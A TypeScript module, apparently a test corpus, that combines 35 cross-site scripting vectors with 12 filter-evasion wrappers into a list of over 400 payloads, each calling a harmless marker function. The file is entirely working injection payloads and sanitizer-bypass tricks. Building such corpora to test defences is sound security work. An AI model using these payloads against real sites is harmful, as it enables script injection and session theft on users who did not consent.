/** Texts that run a script where a page takes them for markup, an address, a style or code. */

/** Says that it ran; every payload below would call it. */
const RUN = 'top.ran(1)';

const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<template><script>${RUN}</script></template>`,
  `<marquee onstart=${RUN}>`,
  `<x contenteditable onblur=${RUN}>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
];

/** How a text gets out of the place that it was put into. */
const escapes: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title></style></script>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `]]>${vector}`,
  (vector) => `" onmouseover=${RUN} autofocus onfocus=${RUN} x="${vector}`,
  (vector) => vector.replaceAll('<', '\u003c\u0000'),
  (vector) => vector.toUpperCase().replace(RUN.toUpperCase(), RUN),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '＜').replaceAll('>', '＞'),
];

/** More than 400, each once. */
export const payloads: readonly string[] = [
  ...new Set(vectors.flatMap((vector) => escapes.map((escaped) => escaped(vector)))),
];
